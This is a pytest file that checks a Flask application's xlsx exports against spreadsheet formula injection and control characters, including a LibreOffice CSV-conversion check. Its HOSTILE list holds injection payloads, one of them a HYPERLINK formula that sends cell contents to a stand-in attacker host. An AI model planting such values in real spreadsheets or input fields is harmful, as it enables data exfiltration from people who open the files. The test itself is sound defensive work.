"""Every xlsx download of the core and the plugins, with members and units named like formulas and with
control characters: every file opens, no cell is a formula, the names come out as the text they are
(control characters dropped), and LibreOffice, converting one to CSV, evaluates nothing.

The objects are those of the permissions matrix's world (tests/permissions), which has something behind
every route; the names are then overwritten in the database, past any validation."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.models import Event, Item, Member, Unit
from core.plugins import event_hooks
from plugins.warmth.models import Campaign, FundSource, Household, Payment
from tests.conftest import USING_PG
from tests.permissions import World, allow, collect_rules, table_modules
from tests.permissions.test_matrix import request_as
from tests.support import Factory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "张\x01三\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f丰",
]
if not USING_PG:  # PostgreSQL text cannot hold NUL at all
    HOSTILE[-1] += "\x00"
CLEAN = [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", name) for name in HOSTILE]
EXPORT = "GET /events/<int:event_id>/export/<key>.xlsx"


@pytest.fixture
def world(example_app):
    world = World()
    world.factory = Factory(example_app)
    for module in table_modules():
        if hasattr(module, "setup"):
            module.setup(world)
    # names no form would let through, written straight into the database
    for index, member in enumerate(Member.select(Member.id).order_by(Member.id)):
        Member.update(name=HOSTILE[index % len(HOSTILE)]).where(Member.id == member.id).execute()
    for index, unit in enumerate(Unit.select(Unit.id).where(Unit.parent.is_null(False)).order_by(Unit.id)):
        Unit.update(name=f"{HOSTILE[index % len(HOSTILE)]}{unit.id}").where(Unit.id == unit.id).execute()
    Household.update(worker_name=HOSTILE[0]).execute()
    Campaign.update(title=HOSTILE[1]).execute()
    for item in Item.select(Item.id):
        Item.update(name=f"{HOSTILE[2]}{item.id}").where(Item.id == item.id).execute()
    campaign = Campaign.select().order_by(Campaign.id).first()
    fund = FundSource.create(unit=campaign.unit, year=campaign.year, kind="grant", name=HOSTILE[3],
                             amount=Decimal(1000), spent=Decimal(0), received_on=date(2026, 1, 5))
    Payment.create(campaign=campaign, campaign_key=campaign.key, household=Household.select().first(),
                   person_hash="hash", unit=campaign.unit, fund=fund, amount=Decimal(500), account_hash="acct",
                   account_last4="1234", paid_on=date(2026, 1, 20))
    return world


def downloads(app, world) -> dict[str, bytes]:
    """``url -> body`` of every xlsx route, each asked by a role the matrix allows."""
    out = {}
    for key, cases in collect_rules().items():
        if not key.endswith(".xlsx") or key == EXPORT:
            continue
        method, rule = key.split(" ", 1)
        for _module, case in cases:
            role = "admin" if "admin" in case.allowed else sorted(r for r in case.allowed if not r.startswith("-"))[0]
            role = "admin" if role == "*" else role
            with app.test_request_context():
                from flask import url_for

                endpoint = next(r.endpoint for r in app.url_map.iter_rules() if r.rule == rule)
                url = url_for(endpoint, **world.resolve(case.values, role))
            response = request_as(app, world.accounts[role], method, url, case, world, role)
            assert response.status_code == 200, (url, role, response.status_code)
            out[url] = response.data
    pm = app.extensions["huodong_pm"]
    for event in Event.select():
        for sheets in event_hooks(pm, event).huodong_export_sheets(event=event):
            for sheet in sheets or []:
                url = f"/events/{event.id}/export/{sheet.key}.xlsx"
                response = request_as(app, world.accounts["admin"], "GET", url, allow("admin"), world)
                assert response.status_code == 200, (url, response.status_code)
                out[url] = response.data
    return out


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data), data_only=False)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


# The downloads whose rows carry the names in the matrix's world (the contest's prize list and the
# example plugin's books have no rows there); each must show a hostile name, or the test proves nothing.
MUST_SHOW = {"/members/export.xlsx", "/members/import/template.xlsx", "/practical/N/N/summary.xlsx",
             "/events/N/department/template.xlsx", "/scoring/events/N/payout.xlsx", "/warmth/campaigns/N/payments.xlsx",
             "/warmth/export/archive.xlsx", "/events/N/export/registrations.xlsx", "/events/N/export/checkin.xlsx",
             "/events/N/export/outing_finance.xlsx", "/events/N/export/payout.xlsx",
             "/events/N/export/sports_day_order.xlsx"}


def test_every_download_keeps_formula_like_names_as_text(example_app, world):
    files = downloads(example_app, world)
    shown: dict[str, set[str]] = {}
    for url, data in files.items():
        family = re.sub(r"/\d+", "/N", url)
        for cell in cells(data):
            assert cell.data_type != "f", (url, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell.value), (url, cell.coordinate)
                shown.setdefault(family, set()).update(n for n in CLEAN if n in cell.value)
                if cell.value.startswith(("=", "+", "-", "@", "\t")):
                    assert cell.data_type == "s" and cell.quotePrefix, (url, cell.coordinate, cell.value)
    routes = {re.sub(r"/<[^>]+>", "/N", r.rule) for r in example_app.url_map.iter_rules() if r.rule.endswith(".xlsx")}
    routes.discard("/events/N/export/N.xlsx")
    assert routes <= set(shown) | {re.sub(r"/\d+", "/N", u) for u in files}, "an xlsx route was not downloaded"
    assert {k for k in shown if "/export/" in k} >= {f for f in MUST_SHOW if "/export/" in f}
    for family in MUST_SHOW:
        assert shown.get(family), f"{family}: no hostile name came out, so nothing was checked"
    everywhere = set().union(*shown.values())
    assert everywhere == set(CLEAN), set(CLEAN) - everywhere


def test_libreoffice_evaluates_nothing_in_the_roster(client, factory, login_as, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    school = factory.school()
    for index, name in enumerate(HOSTILE):
        factory.member(school["g1"], staff_no=f"T{index:03d}")
        Member.update(name=name).where(Member.staff_no == f"T{index:03d}").execute()
    login_as(factory.account("org", roles=[("organizer", school["school"])]))
    response = client.get("/members/export.xlsx")
    assert response.status_code == 200
    (tmp_path / "roster.xlsx").write_bytes(response.data)
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
                    'csv:Text - txt - csv (StarCalc):44,34,76', "--outdir", str(tmp_path), str(tmp_path / "roster.xlsx")],
                   check=True, capture_output=True, timeout=180)
    rows = list(csv.reader((tmp_path / "roster.csv").read_text(encoding="utf-8").splitlines()))
    assert rows[0][0] == "姓名"
    assert sorted(row[0] for row in rows[1:]) == sorted(CLEAN), "each name is shown as the text it is"
